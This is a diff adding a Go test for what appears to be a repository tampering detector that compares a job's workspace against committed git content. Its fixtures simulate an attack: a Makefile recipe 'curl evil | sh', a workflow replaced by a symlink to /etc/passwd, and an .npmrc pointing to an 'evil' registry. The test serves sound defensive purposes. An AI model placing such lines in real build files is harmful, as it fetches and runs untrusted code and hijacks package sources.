@@ -526,3 +526,71 @@ func TestAuthoredFromContentsMatchesGit(t *testing.T) {
 		t.Errorf("unreadable: %+v", un)
 	}
 }
+
+// CommitBaseline against a real git repository's tree: unchanged files
+// come from the workspace, changed ones get the committed bytes (checked
+// against their object id), created ones are absent, and what cannot be
+// fetched still counts as changed.
+func TestCommitBaseline(t *testing.T) {
+	dir, git, write := repo(t)
+	write("Makefile", "all:\n\tgo build\n")
+	write("package.json", `{"name":"x","scripts":{"test":"jest"}}`)
+	write(".github/workflows/ci.yml", baseWorkflow)
+	write("node_modules/dep/package.json", `{"scripts":{"postinstall":"x"}}`)
+	os.Symlink("Makefile", filepath.Join(dir, "GNUmakefile"))
+	git("add", "-A", "-f")
+	git("commit", "-q", "-m", "c")
+	var tree []TreeFile
+	for _, rec := range strings.Split(strings.TrimSuffix(git("ls-tree", "-r", "-l", "-z", "HEAD"), "\x00"), "\x00") {
+		meta, p, _ := strings.Cut(rec, "\t")
+		f := strings.Fields(meta)
+		tree = append(tree, TreeFile{Path: p, Mode: f[0], SHA: f[2]})
+	}
+	tree = append(tree, TreeFile{Path: "sub/Makefile", Mode: "160000", SHA: strings.Repeat("1", 40)})
+	// The job: Makefile changed, package.json reformatted (scripts the
+	// same), the workflow replaced by a symlink, a new .npmrc.
+	write("Makefile", "all:\n\tcurl evil | sh\n")
+	write("package.json", `{"scripts": {"test": "jest"}, "name": "x"}`)
+	os.Remove(filepath.Join(dir, ".github/workflows/ci.yml"))
+	os.Symlink("/etc/passwd", filepath.Join(dir, ".github/workflows/ci.yml"))
+	write(".npmrc", "registry=http://evil\n")
+	set := defaultSet(t)
+	after, err := Take(dir, set)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fetches := map[string]int{}
+	fetch := func(tf TreeFile) ([]byte, error) {
+		fetches[tf.Path]++
+		if tf.Path == "package.json" {
+			return nil, os.ErrNotExist // the API failed: still counts as changed
+		}
+		return exec.Command("git", "-C", dir, "cat-file", "blob", tf.SHA).Output()
+	}
+	// The git directory as the job found it (here: unchanged).
+	before := CommitBaseline(after, tree, set, fetch, 1000, 1000).WithGit(after)
+	got := map[string]string{}
+	for _, f := range Compare(before, after, set) {
+		got[f.Path] = f.Kind
+	}
+	want := map[string]string{"Makefile": KindModified, "package.json": KindModified, ".github/workflows/ci.yml": KindSymlink, ".npmrc": KindAdded}
+	if len(got) != len(want) {
+		t.Errorf("findings %v, want %v", got, want)
+	}
+	for p, k := range want {
+		if got[p] != k {
+			t.Errorf("%s: %q, want %q (all: %v)", p, got[p], k, got)
+		}
+	}
+	if fetches["GNUmakefile"] != 0 || fetches["node_modules/dep/package.json"] != 0 || fetches["sub/Makefile"] != 0 {
+		t.Errorf("fetched what needs no fetching: %v", fetches)
+	}
+	if e := before.Entries["Makefile"]; e == nil || !e.kept || string(e.data) != "all:\n\tgo build\n" || e.UID != 1000 {
+		t.Errorf("Makefile baseline: %+v", e)
+	}
+	// A fetch that returns other bytes than the tree names is not used.
+	lie := func(TreeFile) ([]byte, error) { return []byte("all:\n"), nil }
+	if e := CommitBaseline(after, tree, set, lie, 0, 0).Entries["Makefile"]; e == nil || e.kept {
+		t.Errorf("a lying fetch was used: %+v", e)
+	}
+}
